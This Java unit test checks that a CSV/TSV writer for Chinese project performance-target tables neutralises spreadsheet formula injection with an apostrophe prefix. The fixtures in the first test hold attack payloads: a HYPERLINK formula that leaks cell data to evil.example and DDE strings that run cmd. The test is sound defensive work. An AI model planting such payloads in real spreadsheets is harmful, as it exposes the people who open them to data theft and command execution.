package io.github.jixiao.serialization.sheet;

import io.github.jixiao.serialization.internal.sheet.CsvRecords;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.jixiao.core.Indicator;
import io.github.jixiao.core.IndicatorCategory;
import io.github.jixiao.core.IndicatorSubcategory;
import io.github.jixiao.core.ProjectTargetTable;
import io.github.jixiao.core.fixtures.SeedTables;
import io.github.jixiao.serialization.ReadLimits;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A cell that a spreadsheet would run as a formula is written after an apostrophe (OWASP's advice for CSV
 * injection), and the reader takes the apostrophe off: the sheet is safe to open and still reads back equal.
 */
class SheetFormulaNeutralisingTest {
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"详情\")";
  private static final String DDE = "+cmd|' /C calc'!A0";

  private final SheetReader reader = SheetReader.create();

  @Test
  void neutralisesEveryCellThatASpreadsheetWouldRunAsAFormula() {
    ProjectTargetTable table = SeedTables.weiHardshipGrants().toBuilder()
        .projectName(HYPERLINK)
        .fundUse(DDE)
        .indicators(List.of(indicator("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
            indicator("\t=1+1", "\r=1+1"), indicator("=1+1", "-")))
        .build();
    for (SheetWriter writer : List.of(SheetWriter.create(), SheetWriter.builder().tabSeparated().build())) {
      String sheet = writer.write(List.of(table));
      char delimiter = CsvRecords.detectDelimiter(sheet);
      for (CsvRecords.Row row : CsvRecords.split(sheet, delimiter, "t.csv", limits())) {
        for (String cell : row.cells()) {
          assertThat(cell).as("row %d", row.number()).doesNotStartWith("=").doesNotStartWith("+")
              .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
          if (cell.startsWith("-")) {
            assertThat(cell).as("only a negative number may start with a minus").matches("-\\d+(\\.\\d+)?%?");
          }
        }
      }
      assertThat(sheet).contains("'" + HYPERLINK.replace("\"", "\"\""), "'" + DDE, delimiter + "'-" + delimiter);
      assertThat(reader.read(new StringReader(sheet), "t.csv").value()).containsExactly(table);
    }
  }

  @Test
  void keepsNegativeNumbersAsNumbers() {
    ProjectTargetTable table = SeedTables.weiHardshipGrants().toBuilder()
        .indicators(List.of(indicator("受益学生满意度", "-5").withWeight(new BigDecimal("-2.5"))))
        .build();
    String sheet = SheetWriter.create().write(List.of(table));
    assertThat(sheet).contains(",-5,", ",-2.5\r\n").doesNotContain("'-");
    assertThat(reader.read(new StringReader(sheet), "t.csv").value()).containsExactly(table);
  }

  @Test
  void readsAHandWrittenMinusAndNegativeNumberAsWritten() {
    String sheet = "项目名称,一级指标,二级指标,三级指标,指标值,指标值确定依据\n"
        + "2025年特困生救助金,产出指标,数量指标,全县特困生救助人数,-5,-\n";
    Indicator read = reader.read(new StringReader(sheet), "t.csv").value().get(0).indicators().get(0);
    assertThat(read.target().raw()).isEqualTo("-5");
    assertThat(read.basis()).hasValue("-");
  }

  @Test
  void marksATextThatBeginsWithAnApostropheSoThatEveryCellReadsBackAsWritten() {
    ProjectTargetTable table = SeedTables.weiHardshipGrants().toBuilder()
        .projectName("'2025年特困生救助金")
        .indicators(List.of(indicator("'", "''=1")))
        .build();
    String sheet = SheetWriter.create().write(List.of(table));
    assertThat(sheet).contains("''2025年特困生救助金", ",'',", ",'''=1");
    assertThat(reader.read(new StringReader(sheet), "t.csv").value()).containsExactly(table);
  }

  @Test
  void takesTheApostropheOffAHandWrittenCell() {
    String sheet = "项目名称,一级指标,二级指标,三级指标,指标值\n'=1+1,产出指标,数量指标,'全县特困生救助人数,'100人\n";
    ProjectTargetTable read = reader.read(new StringReader(sheet), "t.csv").value().get(0);
    assertThat(read.projectName()).hasValue("=1+1");
    assertThat(read.indicators().get(0).name()).isEqualTo("全县特困生救助人数");
    assertThat(read.indicators().get(0).target().raw()).isEqualTo("100人");
  }

  private static Indicator indicator(String name, String target) {
    return Indicator.builder().category(IndicatorCategory.OUTPUT).subcategory(IndicatorSubcategory.QUANTITY)
        .name(name).target(target).build();
  }

  private static ReadLimits limits() {
    return ReadLimits.builder().maxDocumentLength(1 << 20).maxRows(1_000).maxColumns(256).maxStringLength(32_767)
        .build();
  }
}
